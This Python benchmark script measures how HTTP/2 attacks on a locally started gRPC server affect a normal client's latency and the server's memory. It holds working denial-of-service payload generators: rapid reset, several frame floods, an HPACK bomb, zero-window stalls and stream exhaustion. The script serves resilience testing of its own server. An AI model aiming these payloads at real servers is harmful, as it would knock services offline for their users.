"""What attacks on an RPC server cost everyone else.

A stock grpcio client makes one call at a time against a server while another process attacks it over raw
HTTP/2, connecting again whenever it is thrown out. Prints the client's latencies, their ratio to a quiet
run before and to a run while another server is attacked in the same way, and the server's memory. Where
client, server and attacker share few processors, the second ratio says what is due to the attack, the first
what is due to a busy machine besides. Every figure is the median of three turns.

Usage: python Tests/Benchmarks/rpc-attacks.py .build/release/rpc-interop-server [SECONDS]   (needs grpcio)
"""

import multiprocessing
import os
import re
import socket
import statistics
import struct
import subprocess
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHOD = "/grpc.testing.TestService/EmptyCall"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    return bytes([len(value)]) + value.encode()


def request(stream, path=METHOD, extra=b""):
    block = b"\x83\x86\x04" + text(path) + b"\x01" + text("test") + extra
    for name, value in (("te", "trailers"), ("content-type", "application/grpc")):
        block += b"\0" + text(name) + text(value)
    return frame(1, 4, stream, block)


def rapid_reset():
    yield PREFACE + frame(4)
    for start in range(1, 200_000, 200):
        yield b"".join(
            request(stream) + frame(3, 0, stream, struct.pack(">I", 8)) for stream in range(start, start + 200, 2))


def flood(first, again):
    def attack():
        yield PREFACE + frame(4) + first
        for _ in range(2000):
            yield again * 100
    return attack


def hpack_bomb():
    yield PREFACE + frame(4)
    block = b"\x83\x86\x84\x40" + text("x") + b"\x7f" + bytes([(3000 - 127) & 127 | 128, (3000 - 127) >> 7])
    yield frame(1, 4, 1, block + b"x" * 3000 + b"\xbe" * 10_000)


def zero_window():
    yield PREFACE + frame(4, payload=struct.pack(">HI", 4, 0))
    for stream in range(1, 400, 2):
        yield request(stream) + frame(0, 1, stream, b"\0\0\0\0\0")
    time.sleep(1)


def too_many_streams():
    yield PREFACE + frame(4)
    for start in range(1, 20_000, 200):
        yield b"".join(request(stream) for stream in range(start, start + 200, 2))


def slow_preface():
    yield b"PRI * HTTP"
    time.sleep(1)


ATTACKS = {
    "rapid reset": rapid_reset,
    "CONTINUATION flood": flood(frame(1, 0, 1, b"\x83\x86\x84"), frame(9, 0, 1, b"\0\1a\1b")),
    "SETTINGS flood": flood(b"", frame(4)),
    "PING flood": flood(b"", frame(6, payload=b"12345678")),
    "PRIORITY flood": flood(b"", frame(2, 0, 1, b"\0\0\0\0\1")),
    "empty DATA flood": flood(request(1), frame(0, 0, 1)),
    "HPACK bomb": hpack_bomb,
    "zero window": zero_window,
    "10,000 streams": too_many_streams,
    "slow preface": slow_preface,
    "oversized length": lambda: [
        PREFACE + frame(4) + b"".join(
            request(stream) + frame(0, 1, stream, b"\0\x7f\xff\xff\xff" + b"x" * 1000)
            for stream in range(1, 200, 2))],
}


def run_attack(name, port, until):
    while time.time() < until:
        with socket.create_connection(("127.0.0.1", port)) as peer:
            peer.settimeout(0.2)
            try:
                for data in ATTACKS[name]():
                    peer.sendall(data)
                    if time.time() > until:
                        break
                while peer.recv(65536):
                    pass
            except OSError:
                pass


def measure(port, seconds, results):
    import grpc

    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        call = channel.unary_unary(METHOD)
        call(b"", wait_for_ready=True)
        times, end = [], time.time() + seconds
        while time.time() < end:
            start = time.perf_counter()
            call(b"", timeout=30)
            times.append(time.perf_counter() - start)
    times.sort()
    results.put((len(times), times[len(times) // 2], times[len(times) * 99 // 100]))


def memory(process):
    return int(re.search(r"VmRSS:\s+(\d+)", open(f"/proc/{process.pid}/status").read())[1]) / 1024


def start(binary):
    """A server, and its port."""
    server = subprocess.Popen(
        [binary, "--port", "0"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    for line in server.stdout:
        match = re.search(r"(?:127\.0\.0\.1|\[::1\]|localhost|0\.0\.0\.0):(\d+)", line)
        if match:
            return server, int(match[1])
    sys.exit(f"{binary} did not start")


def run(port, attack, attacked, seconds):
    results = multiprocessing.Queue()
    workers = [multiprocessing.Process(target=measure, args=(port, seconds, results))]
    if attack:
        workers.append(
            multiprocessing.Process(target=run_attack, args=(attack, attacked, time.time() + seconds + 1)))
    for worker in workers:
        worker.start()
    row = results.get()
    for worker in workers:
        worker.join()
    return row


def main():
    binary, seconds = sys.argv[1], float((sys.argv + ["5"])[2])
    server, port = start(binary)
    other, other_port = start(binary)
    print(f"{os.cpu_count()} cores, load {os.getloadavg()[0]:.1f}, {seconds:g} s each, {binary}")
    print(f"{'attack':20} {'calls':>7} {'p50 us':>8} {'p99 us':>8} {'p99/quiet':>10} {'p99/elsewhere':>14} "
          f"{'server MB':>10}")
    try:
        for name in ATTACKS:
            turns = [
                (run(port, None, None, seconds), run(port, name, other_port, seconds),
                 run(port, name, port, seconds)) for _ in range(3)]
            quiet, elsewhere = (statistics.median(turn[kind][2] for turn in turns) for kind in (0, 1))
            calls, p50, p99 = (statistics.median(turn[2][figure] for turn in turns) for figure in range(3))
            print(f"{name:20} {calls:7} {p50 * 1e6:8.0f} {p99 * 1e6:8.0f} {p99 / quiet:10.2f} "
                  f"{p99 / elsewhere:14.2f} {memory(server):10.1f}", flush=True)
    finally:
        for process in (server, other):
            process.terminate()
            process.wait()


if __name__ == "__main__":
    main()
